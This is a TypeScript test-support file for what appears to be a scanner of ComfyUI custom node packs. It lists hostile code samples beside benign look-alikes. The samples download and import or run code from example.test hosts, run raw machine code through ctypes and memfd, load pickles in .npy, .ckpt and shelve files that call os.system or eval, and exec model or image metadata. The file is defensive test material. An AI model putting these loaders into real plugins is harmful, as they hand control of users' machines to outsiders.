import { type Attack, bytes, kind, python, script } from './attack-pack.test-support.ts'

/** Code that arrives at run time, at any place that the tool, Python or the browser loads from. */
export const arrivals: Attack[] = [
  python(
    'unpacks a download over its own folder and imports from it',
    'import io, os, zipfile, importlib, urllib.request\nhere = os.path.dirname(__file__)\ndata = urllib.request.urlopen("https://cdn.example.test/pack.zip").read()\nzipfile.ZipFile(io.BytesIO(data)).extractall(here)\nimportlib.import_module(".engine", __name__)',
    'import io, os, zipfile, urllib.request\nhere = os.path.dirname(__file__)\ndata = urllib.request.urlopen("https://cdn.example.test/fonts.zip").read()\nzipfile.ZipFile(io.BytesIO(data)).extractall(os.path.join(here, "fonts"))\nfrom PIL import ImageFont\nImageFont.truetype(os.path.join(here, "fonts", "a.ttf"))',
  ),
  python(
    'moves its work tree to another commit and loads what is there',
    'import os, subprocess, importlib\nhere = os.path.dirname(os.path.abspath(__file__))\nsubprocess.run(["git", "-C", here, "fetch", "origin"])\nsubprocess.run(["git", "-C", here, "reset", "--hard", "origin/next"])\nimportlib.import_module(".nodes", __name__)',
    'import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\ncommit = subprocess.run(["git", "-C", here, "rev-parse", "HEAD"], capture_output=True).stdout\nprint(commit)',
  ),
  python(
    'pulls its repository as soon as it is loaded',
    'import os, git\nrepo = git.Repo(os.path.dirname(__file__))\nrepo.remotes.origin.pull()\nfrom .nodes import *',
    'import os, git\nrepo = git.Repo(os.path.dirname(__file__))\nprint(repo.head.commit.hexsha)\nfrom .nodes import *',
  ),
  python(
    'writes a download into the pack as a start script',
    'import os, requests\ncode = requests.get("https://example.test/start").content\nwith open(os.path.join(os.path.dirname(__file__), "prestartup_script.py"), "wb") as f:\n    f.write(code)',
    'import os, requests\ndata = requests.get("https://example.test/presets.json").content\nwith open(os.path.join(os.path.dirname(__file__), "presets.json"), "wb") as f:\n    f.write(data)',
  ),
  python(
    'replaces its own file by a download',
    'import requests\nnew = requests.get("https://example.test/latest").text\nopen(__file__, "w").write(new)',
    'import requests\nnew = requests.get("https://example.test/latest").text\nopen(__file__ + ".note", "w").write(new)',
  ),
  python(
    'puts a download beside the other packs',
    'import os, requests, folder_paths\nroot = folder_paths.get_folder_paths("custom_nodes")[0]\nos.makedirs(os.path.join(root, "helper"), exist_ok=True)\nwith open(os.path.join(root, "helper", "__init__.py"), "w") as f:\n    f.write(requests.get("https://example.test/h").text)',
    'import os, requests, folder_paths\nroot = folder_paths.get_folder_paths("checkpoints")[0]\nwith open(os.path.join(root, "model.safetensors"), "wb") as f:\n    f.write(requests.get("https://example.test/m").content)',
  ),
  python(
    'clones a repository into the folder of packs',
    'import os, git, folder_paths\ntarget = os.path.join(folder_paths.get_folder_paths("custom_nodes")[0], "extra")\ngit.Repo.clone_from("https://git.example.test/a/extra", target)',
    'import os, git, folder_paths\ntarget = os.path.join(folder_paths.models_dir, "extra")\ngit.Repo.clone_from("https://huggingface.co/a/extra", target)',
  ),
  python(
    'renames a downloaded file to a module and imports it by a computed name',
    'import os, importlib, urllib.request\nhere = os.path.dirname(__file__)\npart = os.path.join(here, "update.part")\nurllib.request.urlretrieve("https://example.test/u", part)\nname = "".join(["plu", "gin"])\nos.replace(part, os.path.join(here, name + ".py"))\nimportlib.import_module("." + name, __package__)',
    'import os, urllib.request\nhere = os.path.dirname(__file__)\npart = os.path.join(here, "update.part")\nurllib.request.urlretrieve("https://example.test/u", part)\nos.replace(part, os.path.join(here, "update.json"))',
  ),
  python(
    'serves a downloaded script to every page',
    'import os, requests\nWEB_DIRECTORY = "./web"\nhere = os.path.join(os.path.dirname(__file__), "web")\nopen(os.path.join(here, "panel.js"), "wb").write(requests.get("https://example.test/p").content)\nNODE_CLASS_MAPPINGS = {}',
    'import os, requests\nWEB_DIRECTORY = "./web"\nhere = os.path.join(os.path.dirname(__file__), "web")\nopen(os.path.join(here, "news.json"), "wb").write(requests.get("https://example.test/n").content)\nNODE_CLASS_MAPPINGS = {}',
  ),
  python(
    'builds the address from parts and runs the answer through a file',
    'import os, runpy, tempfile, urllib.request\nhost = ".".join(["cdn", "example", "test"])\nurl = "ht" + "tps://" + host + "/" + "x"\nplace = os.path.join(tempfile.gettempdir(), "x.py")\nwith urllib.request.urlopen(url) as r, open(place, "wb") as f:\n    f.write(r.read())\nrunpy.run_path(place)',
    'import os, json, tempfile, urllib.request\nhost = ".".join(["cdn", "example", "test"])\nurl = "ht" + "tps://" + host + "/" + "x"\nplace = os.path.join(tempfile.gettempdir(), "x.json")\nwith urllib.request.urlopen(url) as r, open(place, "wb") as f:\n    f.write(r.read())\njson.load(open(place))',
  ),
  python(
    'adds a folder of downloads to the path and imports from it',
    'import sys, os, tarfile, requests\nplace = os.path.join(os.path.expanduser("~"), ".cache", "engine")\nwith open(place + ".tgz", "wb") as f:\n    f.write(requests.get("https://example.test/e.tgz").content)\ntarfile.open(place + ".tgz").extractall(place)\nsys.path.insert(0, place)\nimport engine',
    'import os, tarfile, requests\nplace = os.path.join(os.path.expanduser("~"), ".cache", "samples")\nwith open(place + ".tgz", "wb") as f:\n    f.write(requests.get("https://example.test/e.tgz").content)\ntarfile.open(place + ".tgz").extractall(place)\nprint(os.listdir(place))',
  ),
  python(
    'imports modules from an archive at an address',
    'import zipimport, requests\nopen("/tmp/m.zip", "wb").write(requests.get("https://example.test/m.zip").content)\nzipimport.zipimporter("/tmp/m.zip").load_module("m")',
    'import zipfile, requests\nopen("/tmp/m.zip", "wb").write(requests.get("https://example.test/m.zip").content)\nzipfile.ZipFile("/tmp/m.zip").namelist()',
  ),
  python(
    'copies a shipped text to a module in another pack',
    'import os, shutil\nhere = os.path.dirname(__file__)\nshutil.copy(os.path.join(here, "notes.txt"), os.path.join(here, "..", "ComfyUI-Manager", "__init__.py"))',
    'import os, shutil\nhere = os.path.dirname(__file__)\nshutil.copy(os.path.join(here, "notes.txt"), os.path.join(here, "notes.bak"))',
  ),
]

/** Native code, and objects in data files. */
export const nativeAttacks: Attack[] = [
  python(
    'makes memory executable and jumps into bytes',
    'import ctypes, mmap\nbuf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbuf.write(b"\\x90\\x90\\xc3")\naddress = ctypes.addressof(ctypes.c_char.from_buffer(buf))\nctypes.CFUNCTYPE(ctypes.c_int)(address)()',
    'import mmap\nwith open("weights.bin", "rb") as f:\n    buf = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)\nprint(buf[:8])',
  ),
  python(
    'allocates memory through the system and starts a thread in it',
    'import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 4096, 0x3000, 0x40)\nk.RtlMoveMemory(p, b"\\xfc\\x48", 2)\nk.CreateThread(0, 0, p, 0, 0, 0)',
    'import ctypes\nk = ctypes.windll.kernel32\nk.SetConsoleTitleW("Upscaler")',
  ),
  python(
    'loads a library that it has fetched',
    'import ctypes, os, tempfile, urllib.request\nplace = os.path.join(tempfile.mkdtemp(), "fast.so")\nurllib.request.urlretrieve("https://example.test/fast.so", place)\nctypes.CDLL(place).start()',
    'import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), "lib", "fast.so")).resize()',
  ),
  python(
    'decodes a library and loads it',
    'import base64, ctypes, tempfile, os\nDATA = "f0VMRg=="\nplace = os.path.join(tempfile.gettempdir(), "libz.so")\nopen(place, "wb").write(base64.b64decode(DATA))\nctypes.cdll.LoadLibrary(place)',
    'import base64, tempfile, os\nDATA = "iVBORw=="\nplace = os.path.join(tempfile.gettempdir(), "logo.png")\nopen(place, "wb").write(base64.b64decode(DATA))',
  ),
  python(
    'runs a decoded program from a file without a name',
    'import os, base64\nfd = os.memfd_create("x")\nos.write(fd, base64.b64decode("f0VMRg=="))\nos.execve("/proc/self/fd/%d" % fd, ["x"], {})',
    'import os, base64\nfd = os.memfd_create("x")\nos.write(fd, base64.b64decode("aGVsbG8="))\nos.lseek(fd, 0, 0)',
  ),
  {
    name: 'ships objects in a NumPy file and turns the check off',
    files: {
      '__init__.py':
        'import numpy as np, os\nnp.load(os.path.join(os.path.dirname(__file__), "mask.npy"), allow_pickle=True)',
      'mask.npy': Buffer.concat([
        Buffer.from(
          `${"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(127)}\n`,
          'latin1',
        ),
        Buffer.from('cposix\nsystem\n(Vx\ntR.', 'latin1'),
      ]),
    },
    twin: {
      '__init__.py': 'import numpy as np, os\nnp.load(os.path.join(os.path.dirname(__file__), "mask.npy"))',
      'mask.npy': Buffer.from(
        "\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }".padEnd(127) +
          '\n\0\0\0\0',
        'latin1',
      ),
    },
  },
  {
    name: 'ships a database of objects for shelve',
    files: {
      '__init__.py':
        'import shelve, os\nwith shelve.open(os.path.join(os.path.dirname(__file__), "cache")) as db:\n    print(db["x"])',
      'cache.dat': 'cbuiltins\neval\n(Vprint(1)\ntR.',
      'cache.dir': "'x', (0, 30)\n",
    },
    twin: {
      '__init__.py':
        'import json, os\nprint(json.load(open(os.path.join(os.path.dirname(__file__), "cache.dat"))))',
      'cache.dat': '{"x": 1}',
    },
  },
  python(
    'loads a frame of objects from an address',
    'import pandas as pd\ntable = pd.read_pickle("https://example.test/table.pkl")',
    'import pandas as pd\ntable = pd.read_csv("https://example.test/table.csv")',
  ),
  python(
    'loads joblib objects that it has downloaded',
    'import joblib, requests\nopen("m.joblib", "wb").write(requests.get("https://example.test/m").content)\nmodel = joblib.load("m.joblib")',
    'import joblib\nmodel = joblib.load("m.joblib")',
  ),
  python(
    'evaluates what the metadata of a picture says',
    'from PIL import Image\ndef load(path):\n    info = Image.open(path).info\n    return eval(info["settings"])',
    'from PIL import Image\nimport json\ndef load(path):\n    info = Image.open(path).info\n    return json.loads(info["settings"])',
  ),
  python(
    'runs the header of a model file',
    'import json, struct\ndef load(path):\n    with open(path, "rb") as f:\n        n = struct.unpack("<Q", f.read(8))[0]\n        head = json.loads(f.read(n))\n    exec(head["__metadata__"]["init"])\nload("model.safetensors")',
    'import json, struct\ndef load(path):\n    with open(path, "rb") as f:\n        n = struct.unpack("<Q", f.read(8))[0]\n        head = json.loads(f.read(n))\n    return head["__metadata__"]\nload("model.safetensors")',
  ),
  {
    name: 'ships a compressed pickle of another name',
    files: {
      '__init__.py':
        'import gzip, pickle, os\nwith gzip.open(os.path.join(os.path.dirname(__file__), "palette.gz")) as f:\n    palette = pickle.load(f)',
      'palette.gz': bytes(0x1f, 0x8b, 8, 0),
    },
    twin: {
      '__init__.py':
        'import gzip, json, os\nwith gzip.open(os.path.join(os.path.dirname(__file__), "palette.gz")) as f:\n    palette = json.load(f)',
      'palette.gz': bytes(0x1f, 0x8b, 8, 0),
    },
  },
  script(
    'compiles machine code of another server in the page',
    'const r = await fetch("https://example.test/m.wasm"); const m = await WebAssembly.instantiate(await r.arrayBuffer(), { env: { run: (p) => eval(text(p)) } }); m.instance.exports.main()',
    'const r = await fetch("./m.wasm"); const m = await WebAssembly.instantiate(await r.arrayBuffer(), {}); m.instance.exports.blur()',
  ),
  {
    name: 'ships weights whose archive holds a command',
    files: {
      '__init__.py': 'import torch\ntorch.load("model.ckpt", weights_only=False)',
      'model.ckpt': '\x80\x02cos\nsystem\n(Vx\ntR.',
    },
    twin: { '__init__.py': kind, 'model.ckpt': '\x80\x02ccollections\nOrderedDict\n)R.' },
  },
]
